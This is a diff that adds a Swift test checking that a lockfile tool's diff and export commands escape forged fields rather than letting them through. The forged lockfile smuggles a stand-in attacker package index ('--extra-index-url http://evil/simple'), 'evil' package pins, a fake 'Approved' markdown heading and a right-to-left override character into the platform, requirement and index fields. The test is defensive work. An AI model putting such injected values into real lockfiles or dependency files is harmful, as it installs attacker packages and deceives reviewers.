@@ -76,6 +76,40 @@ struct DiffTests {
     }
   }
 
+  /// A lockfile comes from a repository that others write to: it forges no line of what is shown.
+  @Test func nothingIsForged() async throws {
+    try await Scenario.with { scenario in
+      try scenario.index.publish(PythonProject("lone"))
+      try scenario.moduleSet("a: {module: lone, pip_name: lone}")
+      try await scenario.succeeds("lock")
+      let honest = try scenario.lockfile()
+      try scenario.write(honest, to: "honest.toml")
+      let line = try #require(honest.firstMatch(of: /platform = ".*"/)).0
+      let forged =
+        honest
+        .replacing(line, with: "platform = \"linux-x86_64\\n--extra-index-url http://evil/simple\\nevil==1.0\"")
+        .replacing(
+          "requirement = \"lone\"",
+          with: "requirement = \"lone|`` ` \\n\\n## Approved \\u202e\\n+ evil 1.0 for modules.z\""
+        )
+        .replacing("index = \"\(scenario.index.url())\"", with: "index = \"\(scenario.index.url())\\nevil==2 ${HOME}\"")
+      try scenario.write(forged, to: "forged.toml")
+      var text = ""
+      for arguments in [
+        ["diff", "honest.toml", "forged.toml"], ["diff", "honest.toml", "forged.toml", "--format", "markdown"],
+        ["export", "forged.toml"],
+      ] {
+        let outcome = try await scenario.tool().run(arguments)
+        #expect(outcome.status == 0, "it said: \(outcome.text)")
+        text += "$ pinion \(arguments.joined(separator: " "))\n\(outcome.text)\n"
+      }
+      #expect(text.contains("\\n## Approved") && !text.contains("\n## Approved") && !text.contains("\nevil=="))
+      try scenario.expectRecorded(
+        text.replacing(scenario.index.url(), with: "INDEX/").replacing(/[0-9a-f]{64}/, with: "DIGEST"),
+        named: "forged-lockfile")
+    }
+  }
+
   @Test func saysWhatIsNotThere() async throws {
     try await withHistory { scenario in
       var text = ""
